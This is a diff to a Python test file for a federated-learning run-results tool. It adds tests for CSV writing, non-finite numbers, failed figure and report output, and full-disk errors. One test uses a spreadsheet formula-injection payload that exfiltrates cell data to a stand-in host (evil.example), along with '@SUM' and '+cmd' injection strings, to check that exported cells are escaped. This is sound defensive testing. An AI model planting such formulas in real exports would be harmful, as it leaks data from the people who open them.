@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import errno
 import io
 import json
@@ -25,11 +26,16 @@ from matplotlib.image import imread
 from rich.console import Console
 from safetensors import safe_open
 from safetensors.numpy import load_file
+from typer.testing import CliRunner
 
+import data
 from data import load_federation
-from server_app import pictures, results
+from server_app import cli, pictures, report, results
 from server_app.config import Config, ConfigError
-from server_app.results import RunFolder, comparison_table, read_table
+from server_app.report import run_content
+from server_app.results import RunFolder, comparison_table
+from server_app.see import Watcher
+from server_app.tables import read_table
 from strategies.history import History
 
 SETTINGS = Config(num_rounds=2, num_clients=4, num_groups=2).run_config()
@@ -85,12 +91,13 @@ def federation():
 @contextmanager
 def full_disk():
     """Every write ends as on a full disk."""
-    def fail(*args):
-        raise OSError(errno.ENOSPC, "No space left on device")
-
     with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(os, "fsync", fail)
+        patch.setattr(os, "fsync", no_space)
         yield
+
+
+def no_space(*_):
+    raise OSError(errno.ENOSPC, "No space left on device")
 
 
 # --- The folder and its configuration -------------------------------------------------------------------
@@ -208,12 +215,13 @@ def test_no_reply_at_all_still_gives_tables(tmp_path):
         {"round": 1, "asked": 0, "answered": 0, "seconds": 2.0, "bytes-down": 0, "bytes-up": 0}]
 
 
-texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=8)
+anything = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=8)
+texts = anything | st.builds("{}{}".format, st.sampled_from(["=", "+", "-", "@", "'", "'=", " =", "\t", "\r="]), anything)
 numbers = st.integers(-(10**18), 10**18) | st.floats()
 wild_rows = st.lists(
     st.fixed_dictionaries(
         {"round": st.integers(1, 5), "client": st.integers(0, 2**64 - 1) | texts, "status": texts},
-        optional={key: numbers for key in ("seconds", "loss", "a,b", "personal-accuracy")},
+        optional={key: numbers for key in ("seconds", "loss", "a,b", "personal-accuracy", "=a", "'=a", "''a", "-1")},
     ),
     max_size=8,
 )
@@ -233,6 +241,26 @@ def test_whatever_comes_in_rounds_is_read_back(tmp_path_factory, rows, cuts):
             for line in rows]
     assert [comparable(line) for line in read_table(path)] == [comparable(line) for line in kept]
     assert path.read_bytes().count(b"\n") == len(rows) + 1
+    with open(path, encoding="utf-8", newline="") as file:
+        header, *lines = csv.reader(file)
+    for cell in (*header, *(cell for line in lines for cell in line[1:3] if not cell.isdecimal())):
+        assert not cell.strip().startswith(("=", "+", "-", "@")) and not cell.startswith(("\t", "\r")), cell
+
+
+def test_no_name_or_reason_of_a_client_is_a_formula_to_a_spreadsheet(tmp_path):
+    name = '=HYPERLINK("http://evil.example?"&A1)'
+    rows = [row(1, name, "@SUM(1)", **{"+cmd": -1.5}), row(1, "'quoted", personal_accuracy=0.5)]
+    folder = RunFolder(settings(tmp_path))
+    folder.record_round(run_of([rows], clients=("'quoted", name)))
+    header, *lines = csv.reader(io.StringIO((folder.path / "history.csv").read_text()))
+    assert header[-2:] == ["personal-accuracy", "'+cmd"]
+    assert [line[1:3] for line in lines] == [["''quoted", "ok"], [f"'{name}", "'@SUM(1)"]]
+    assert lines[1][-1] == "-1.5"
+    found = read_table(folder.path / "history.csv")
+    assert [line["client"] for line in found] == ["'quoted", name]
+    assert (found[1]["status"], found[1]["+cmd"]) == ("@SUM(1)", -1.5)
+    content = run_content(folder.path)
+    assert content["clients"]["names"] == content["collaboration"]["names"] == ["'quoted", name]
 
 
 def test_columns_stay_in_order_of_first_appearance(tmp_path):
@@ -367,7 +395,73 @@ def test_run_in_which_nobody_reported_ends_all_the_same(tmp_path, federation):
     assert not (folder.path / "models").exists() and not (folder.path / "collaboration").exists()
 
 
-def test_summary_is_there_only_when_all_else_is(tmp_path, federation):
+def strictly(text):
+    """What JSON says, without the numbers that it does not have."""
+    return json.loads(text, parse_constant=lambda name: pytest.fail(name))
+
+
+@pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf, 1e308, -1, -1e308, 2**64 - 1, 10**30, [0.5, 1e308]])
+def test_whatever_number_clients_report_the_results_are_written(tmp_path, caplog, value):
+    clients, known = ("x" * 200, 2**64 - 1, "c"), {"personal_accuracy": 0.5, "samples_trained": 3}
+    odd = {key: value for key in ("received_accuracy", "trained_accuracy", "train_loss", "num_test_examples", "a-status")}
+    numbers = {} if isinstance(value, list) else {"personal_accuracy": value, "samples_trained": value}
+    strategy = run_of([[row(number, client, **odd | numbers) for client in clients[:2]]
+                       + [row(number, "c", **odd | (known if number == 2 else numbers))] for number in (1, 2, 3)],
+                      clients=clients)
+    strategy.history.rounds[0] |= {"floats": value, "accuracy": value} if numbers else {}
+    folder = RunFolder(settings(tmp_path))
+    folder.record_round(strategy)
+    folder.finish(strategy, None)
+    assert "cannot be written" not in caplog.text
+    summary = strictly((folder.path / "summary.json").read_text())
+    if numbers:
+        assert summary["floats"] == (value if math.isfinite(value) else None)
+    assert [each["accuracy"] for each in summary["clients"]] == [None, 0.5, None]
+    assert is_picture(folder.path / "accuracy.png") and is_picture(folder.path / "collaboration.png")
+
+    (folder.path / "report.html").unlink()
+    done = CliRunner().invoke(cli.app, ["report", str(folder.path)])
+    assert done.exit_code == 0 and (folder.path / "report.html").exists(), done.output
+    with Watcher(folder.path, 0) as watcher:
+        shown = strictly(watcher.content()[1])
+    assert shown["finished"] and shown["clients"]["accuracy"] == [None, 0.5, None]
+    results.compare_runs([folder.path, folder.path], tmp_path / "comparison.png", io.StringIO())
+    assert "cannot be written" not in caplog.text and is_picture(tmp_path / "comparison.png")
+
+
+@pytest.mark.parametrize(("where", "what", "file"), [
+    (pictures, "accuracy_figure", "accuracy.png"), (pictures, "collaboration_figure", "collaboration.png"),
+    (data, "partition_figure", "partition.png"), (report, "run_content", "report.html"),
+])
+def test_a_picture_or_report_that_fails_is_a_warning_and_all_else_is_there(
+    tmp_path, federation, monkeypatch, caplog, where, what, file
+):
+    def fail(*_):
+        raise ValueError("Axis limits cannot be NaN\nor Inf")
+
+    monkeypatch.setattr(where, what, fail)
+    strategy = run_of(TWO_ROUNDS, models={0: record(w=np.ones(3))})
+    folder = RunFolder(settings(tmp_path))
+    folder.finish(strategy, federation)
+    (warning,) = [each.getMessage() for each in caplog.records if "cannot be written" in each.getMessage()]
+    assert warning == (f"kindred: {folder.path / file} cannot be written (ValueError: Axis limits cannot be NaN); "
+                       "all other results are")
+    assert files_of(folder.path) == {
+        "config.json", "history.csv", "rounds.csv", "summary.json", "models/client-0.safetensors", "accuracy.png",
+        "collaboration.png", "partition.png", "report.html"} - {file}
+
+
+def test_a_picture_that_fails_ends_no_run(tmp_path, monkeypatch):
+    monkeypatch.setattr(pictures, "accuracy_figure", lambda *_: 1 / 0)
+    done = CliRunner().invoke(cli.app, [
+        "run", "--strategy=local", "--engine=inline", "--clients=2", "--rounds=1", "--set=samples-per-client=10",
+        "--set=local-epochs=1", "--set=num-groups=1", f"--output-dir={tmp_path}"])
+    assert done.exit_code == 0 and "accuracy.png cannot be written (ZeroDivisionError: division by zero)" in done.output
+    (folder,) = tmp_path.iterdir()
+    assert results.is_finished(folder) and (folder / "report.html").exists()
+
+
+def test_the_summary_is_written_before_anything_that_could_keep_it_from_that(tmp_path, federation, monkeypatch):
     strategy = run_of(TWO_ROUNDS, models={0: record(w=np.ones(3))})
     folder = RunFolder(settings(tmp_path))
     folder.record_round(strategy)
@@ -377,8 +471,12 @@ def test_summary_is_there_only_when_all_else_is(tmp_path, federation):
     assert files_of(folder.path) == before
     with pytest.raises(ValueError, match="holds no summary.json"):
         results.read_summary(folder.path)
+    with monkeypatch.context() as patch, pytest.raises(OSError, match="No space left"):
+        patch.setattr(RunFolder, "_save_models", no_space)
+        folder.finish(strategy, federation)
+    assert files_of(folder.path) == before | {"summary.json"}
     folder.finish(strategy, federation)
-    assert results.read_summary(folder.path)["rounds"] == 2
+    assert results.read_summary(folder.path)["rounds"] == 2 and "models/client-0.safetensors" in files_of(folder.path)
 
 
 def test_models_come_back_bit_by_bit(tmp_path, federation):
